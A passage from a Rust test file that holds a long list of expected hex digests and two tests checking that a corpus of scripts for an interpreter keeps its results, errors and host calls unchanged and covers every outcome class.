a44aaa480cdebf16 c5d1a1d02803f032 6701cbb6898ed97e fbc2b74ac92f2cbb fb844ef7f9c58fa7 \
02f03302433b074e d2ec1b6cdcac5b74 887532fd06c10629 b441d3bb42836c9d c245acebedf64c48 \
6030c44ed71c7f8f 07c9ef8da7dee9d9 68a02ba44f23c273 2015c3f6607accf3 86045d44c1c6aaa1 \
58c93a640f9504f3 70665d06aa3fa777 91eb6c3372aebe2c e670729cd9e08bf6 62300ca62fe257b1 \
56412a8f6a16beb6 ae7e3d1810c4dfd6 87f0a3faa6986404 09fb87417dfa0aab 73882845141c242e \
2dc691bc22c989f9 198b09f9ec13aa05 1855d0508979845b 33c178ecbe4d806e 84df9019945610c3 \
9b7e0cab855339d7 db1cbda0f3b054fb be86dadf6016f5e7 4e588880394d49f1 33c178ecbe4d806e \
3b9f0040b6f26de3 1fbe7a9458b3072d e17da4ef6980f781 59debc595417128c 6ac884359b65e5bb \
a1102a98d4972564 eff66bcdcdfd7d38 f723d3b7b06be1bd 5f014896d004e10e 5408d2cf8c3845dd \
fe3807f6dab1eb59 6030c44ed71c7f8f 035cf13af986678f 6aa7013061725b5d d2ec1b6cdcac5b74 \
8af284c2e51f4233 3f32e3b2c3906ef7 07c9ef8da7dee9d9 4784d0a39c8c3132 6822c49a707f3d29 \
198b09f9ec13aa05 4b7721116c3a063f cd1e2b1eff057fc7 33c178ecbe4d806e 07c9ef8da7dee9d9 \
7fd7e4a2014f8afe 07c9ef8da7dee9d9 0292453375a39396 d2ec1b6cdcac5b74 cf6aab05c92b6a53 \
b2c71b0700232b2f 6030c44ed71c7f8f faedc8e71b190335 5ed04ab42d073a78 68c5b301a984fa10 \
1bee9990841e7583 b40813074e657813 9a902f821d1eb6ad 21d03a82856a8dd8 d0d23c41e239be4d \
492fce21c7817c22 6aff5617c4867add 4a0699b333711a4b 6976309977005f3d f856435b4d057033 \
1560b0f1f5ec30b1 c891c3934c2e4f28 49f1c2b4d6675d95 9aa039b1b58fae10 e3687c7945fc45ab \
babfce434ebbeb02 b0488572f48f4f0f 78411ff0662216f8 bb20538f53058b74 ba87632105cba99f \
7fd7e4a2014f8afe 5a94e5fc3d977acb 2735412c543be037 6ac884359b65e5bb f4230deb57e17ab7 \
33c178ecbe4d806e f834a54204fb9456 e5917207a449e9be 9b3d9c4c5cf45b96 772e10f0b9259965 \
33c178ecbe4d806e 1b88c4f8171303d8 ab4050f42f85617e 7fd7e4a2014f8afe 719e77c7a5777981 \
b4cf7b7948e60f3e 95435453120707a3 39bbe5465175b59f b8ae1fb4e19fc1a2 ac8e8d7b0ebb0520 \
6ac884359b65e5bb 82f1c2707a184090 06feb098403199dc bcf9ad57bdb7fc72 3e3ec4620478edfb \
615bbe506dd04f5e e96d2a30f6c5f973 21d03a82856a8dd8 6ac884359b65e5bb bb20538f53058b74 \
122ef5c8f1077663 6030c44ed71c7f8f 56412a8f6a16beb6 d0d23c41e239be4d d519b0df26100c4e \
b1f51e9a02cf58d4 ab63158f39818ed3 6ac884359b65e5bb e59223c1da71b5dd 238cab4f509f9f16 \
bb20538f53058b74 6bd9c1638860dcf0 07c9ef8da7dee9d9 ee2423d24568dbee db404b534cc89618 \
faedc8e71b190335 30785392082431f1 38c3c8e5b56a11de 21d03a82856a8dd8 181291c45ba37df8 \
4cfbfe978ea860fb bb05bb617cc15124 eda5015a98e7204c 568f9cf82f3e5e6f e7bdd4c79f511ac0 \
d95ee167d9c6d5f7 6384b7a2ea2e87d9 f7005f60815df3cb a8ba339cb0ff3710 91ae5bbae7be6df4 \
2a3814175b6929e7 faa4fb6c26f47274 7f7e52a3200dd5f5 6030c44ed71c7f8f b358c9c440c07e42 \
265a9aa49236aa63 e75dc896fd8d75fa 559d1a700299c46f 33c178ecbe4d806e 1f24caea8ab4f828 \
7a4300b3a695a82f 828d76c2f5be3122 0a4d3391cb4d6775 ac9aa1d75fccf6af b90fb86c87b78084 \
1e4b569f84c23f2e faedc8e71b190335 6030c44ed71c7f8f b6f4e61653b698da 6d48464945f71c76 \
33c178ecbe4d806e c6bdbdd4a1ee0de1 21d03a82856a8dd8 9717e6bb04e3afa0 677048eafb489912 \
c99e8881c47ad4d4 acd995c9f1cd37b2 a93f8b2ab77e3ebb 56412a8f6a16beb6 e5614f4b786fb3c9 \
d2ec1b6cdcac5b74 51dcf87a3fc7bd5b a4c2cdd562bbc5fc 4c544489b285bcbd 3ec8c005507b46bb \
e0cfaabf73a16510 6f4e74016f043ac0 8f7c9edd631f750d 33c178ecbe4d806e 9e287621cd3b40de \
5a7580fc64f22521 64c23611a64ff12a 9f604b1ce2e10f83 dd6cb2e3199439ad 84e85a724ac14d6c \
198b09f9ec13aa05 96ae7d769a4e7f9c 2f3b585f24fa935c 2472bcea1178e5c7 07c9ef8da7dee9d9 \
25dd65db63e1363d 43c3f113a6d3c72f b205e3ebd53205b4 9e7bc32bed105312 6562003205f072ed \
39a14916f1a1b17f 09494c192b81f1a5 07c9ef8da7dee9d9 b0417a4778d06d5c 33c178ecbe4d806e \
c9b3ebb58ed882ad 3b4f974ac5bd3f13 172b1db0f8098689 d553bf8bdcb2a914 75cf01598ebf1bcc \
29c154cf6b709a7d 07c9ef8da7dee9d9 986d9a2d9c2f9743 e878abdb3dc8c524 5f2a97bb77cf5e15 \
d1526dd96ecb4f55 8119f6e03b9864fa b022171f9787a67f 21d03a82856a8dd8 33c178ecbe4d806e \
3b2fc29b12aabf10 dc46963f3163685e 8aa88869c8b63979 9108c8a291bf26c1 85e5f35a40bdc4e4 \
7fd7e4a2014f8afe 94209e7d2c9e7fde 215043e91d9fe4a0 d99cdeb944f57ab3 492bdd39a1b80eab \
69198c1cf237a3bc 0b72f5afe0f5fdef e32911ff2d93190c 0f8d1193802eadd9 d0d23c41e239be4d \
bc1d3e5ffe47c910 4199fad55c704b04 f2be6c9e1edf0524 f48be3fe10fa12f3 34ef7858293ab5a9 \
c5e60c08998921b0 51bee0788cb03b20 1bfcafe89dab3f36 e5ced7ea98fb20c3 76bb92d009850453 \
b796e6423c02a27f 469cf4dce54361b0 fcc9a11e790fc2d4 ce50afadee4f0fff 56412a8f6a16beb6 \
f856435b4d057033 21e1f9da0c719e5d f203afbfacfd1c73 5da9f1ffade7c788 80f912f1318b858d \
acfeb4d97279d705 858225580ccd9853 f856435b4d057033 198b09f9ec13aa05 350a8a521a264972 \
52ac9ba197a1e17d c18baa595b32fa96 0bea9bc7315cc052 1c98c30745c79590 bd3cc5ea9ffe4ec3 \
79ccca6c151c5964 c9b3ebb58ed882ad 9c602f8718d1382d ca2ceaf86a827f7e 432d1b0a5437e47f \
5367ce4a2379d396 873fc70cf0992118 5c5cbb2ce6cc167f f856435b4d057033 161f9d2ff2cf2059 \
e5343239866919f5 2a16624994a6e23c bfc62c3cd1d2b9b3 e04334f10153fd8b 03f53e8f2cc6022e \
6b48247bba5386ee d3b894f7ca50a986 6279fb5f65348993 3c95a1d8c0546ad3 0292453375a39396 \
ee8c2c9d0dd8d597 42c18f944d893e56 161f9d2ff2cf2059 66fdc4c3f9e078b7 f856435b4d057033 \
6030c44ed71c7f8f e993ebf7584e8262 1d99cc6b87b2dbc4 a64ff2cb84164ed8 cc284022d729f3fe \
8534fc8a235546a6 99eb86bd8dc242b8 8f595f18974d905b 8889604872cd7c40 334d9ad8b93d7b11 \
aa00d3e7e4c54d40 3012d8c3ac3e8990 29575a9f35c4101f 6030c44ed71c7f8f 01deb9786b1aef68 \
258b0e1afcd88056 6eb38b177bcd32e8 3c5a1d4685a61557 7c3cd97b447b37ef 6ceb9475d60c5aa1 \
a5de57b9b0af1f5f 198b09f9ec13aa05 5fca6098566fca6f f719fd1bb7cfba86 6bdda42013f2f22d \
8858490b3bfe2d89 3d575c6d88a7fd5e a215e956827eac84 3ffb77dd2a1c60bf 819a971f1131d505 \
f63cb71eca349626 9ecc5405cebf032c 161f9d2ff2cf2059 d6281f258d85411f 38373d11f8cb2322 \
1db7dc9940cf89ba a45c9236c0c65088 8a9a157aa176ad07 198b09f9ec13aa05 112ead5bfda09ab2 \
d2ec1b6cdcac5b74 deccb5c0404d98b9 4218c7626506d42d 73cb9c25ec283d75 84232dcd6c0d5396 \
92b05958b4fefcef 2e76c676b4145c3b e7dcc0d6f569491e 4723834f65b155d8 db626023e8f05baa \
c35ddc8c894f1bd0 99cf2425a3930922 7fd7e4a2014f8afe 9fc2c4490b60ad65 f77d5d67a2d94425 \
f77196ba29aa8ba0 4c49e705045ebbe4 624c6d548993668b 21709a2f9eb13bf1 56412a8f6a16beb6 \
1bee9990841e7583 79b6f11d07a9ed43 3673026789765ded d2ec1b6cdcac5b74 9a4c608800cd54b2 \
69a21bd86fd60a4c 095122f658578d4a f6f7684ca3e8c7ae fcb4a34f1cf52dd4 73d5bb8565fe8499 \
93ba6f46a5a640f2 c3463cd729b71f49 480d197601be5366 20e2af62c02807f2 2e1a1d98a7597a99 \
dddfc32530cc1e6e da2d6ad1b0f79158 243a32ac4c98da26 6ac884359b65e5bb 553c017a9076a5eb \
87f0a3faa6986404 96a411309914087d 677048eafb489912 49f1c2b4d6675d95 a726a68a968eabb6 \
e16c6fbb98e30405 c74b1a3fef6c7258 9bc4478714e124de c8a552148b5efe07 5f21cea16438455b \
55f33b5ae96b730a cb7fb7d543fdac85 a6444d6c5cd90662 3bc905b29456da91 b2f30c09b05d5a2a \
1855d0508979845b 33d0617524c68a40 8dde2659278b5a95 161f9d2ff2cf2059 198b09f9ec13aa05 \
a616d301681797da bfd786430af5d554 a48bf09fcd1b73bd 7d9919697e78c138 1b4b4cc9a904fef8 \
f69b84677d6dce8f 16980a7951e64a2b 835d9fdc3fe6628b 0e55f5e350a839ae 7c20ec013a233de8 \
2e2f51dfa5b0d01f b50b8232ad8d69b6 6ac884359b65e5bb 85b2a83d0976349a ac25da3c9161b7fd \
4cb955790f4e1c3a 894723f033a9a9cd 5d359dac4a78f149 732d136db2512d03 fe6fc02f69da546a \
161f9d2ff2cf2059 7bdc61ceba0572d2 78cfcca970b88ba7 7fd7e4a2014f8afe 7fd7e4a2014f8afe \
6030c44ed71c7f8f 33c178ecbe4d806e eb92bd859c09fde5 6030c44ed71c7f8f 290faad94129d3e3 \
ef33baa5612333ba e1bdab003f772cf4 b944aec6232616c1 2de33f1ddb181229 7fd7e4a2014f8afe \
d2ec1b6cdcac5b74 098fbfd3aa38def0 fd599a95c79b938e 584e49a63151847a 93be1dc1f3e4e4b1 \
5c464643df628572 61cca51825a20191 33c178ecbe4d806e 06d46e563da7f9db 792d1e60964adcdb \
aed0fc7df8ade603 1945365329eb14e5 baf911eabe6318a5 30f6d0104568f813 33c178ecbe4d806e \
ae3fae11ea9a76c2 9ff1ddfd7b006453 553c017a9076a5eb 198b09f9ec13aa05 3d4842441fc7ecbd \
1e860a930f4ffa5c 4d479918e15d3b65 1c09df381d5661e8 a6a618fa168c421b 7f444b3ad9ca14ce \
4bf6bcbd361eb10e 39521c61b8225214 44a70e3a952332cf 8f7c9edd631f750d 0a4d3391cb4d6775 \
8c9f32e51221a15e a45c9236c0c65088 c3c2a1d216c10ac7 7c17f966e2e6d2af c83ce2435361545d \
aca732bf39c8b480 706a1e3c1b0a90b0 6030c44ed71c7f8f fdae2aac95b5e46a 7ba4ebd37a0a48cf \
33c178ecbe4d806e 6f854caf9c88f031 3121d9f7c6632dd0 35eee65f8e7cce26 ";

#[test]
fn every_corpus_program_keeps_its_result_and_host_calls() {
    let corpus = corpus();
    let actual: Vec<u64> = corpus.iter().map(|p| digest(&transcript(p))).collect();
    // Shown only when the test fails (libtest captures stdout).
    for (program, value) in corpus.iter().zip(&actual) {
        println!("{value:016x} {}", program.origin);
    }
    let expected: Vec<u64> = EXPECTED
        .split_whitespace()
        .map(|hex| u64::from_str_radix(hex, 16).expect("hex digest"))
        .collect();
    assert_eq!(expected.len(), corpus.len(), "corpus size changed");
    let mismatches: Vec<String> = corpus
        .iter()
        .zip(actual.iter().zip(&expected))
        .filter(|(_, (a, e))| a != e)
        .map(|(program, _)| {
            format!(
                "{}: {:?}\n{}",
                program.origin,
                program.runs,
                transcript(program)
            )
        })
        .collect();
    assert!(
        mismatches.is_empty(),
        "{} of {} programs changed behaviour; first:\n{}",
        mismatches.len(),
        corpus.len(),
        mismatches[..mismatches.len().min(3)].join("\n")
    );
}

#[test]
fn the_corpus_covers_every_outcome_class() {
    let corpus = corpus();
    let transcripts: Vec<String> = corpus.iter().map(transcript).collect();
    let count = |needle: &str| transcripts.iter().filter(|t| t.contains(needle)).count();
    assert!(corpus.len() > 600, "corpus has {} programs", corpus.len());
    assert!(count("ok ") > 300);
    assert!(count("err lex error") >= 10);
    assert!(count("err parse error") >= 20);
    assert!(count("is not defined") >= 20);
    assert!(count("err script exceeded its step budget") >= 2);
    assert!(count("err script exceeded the call depth bound") >= 2);
    assert!(count("set_inner_html(") >= 50);
    assert!(count("xhr_send(") >= 10);
}
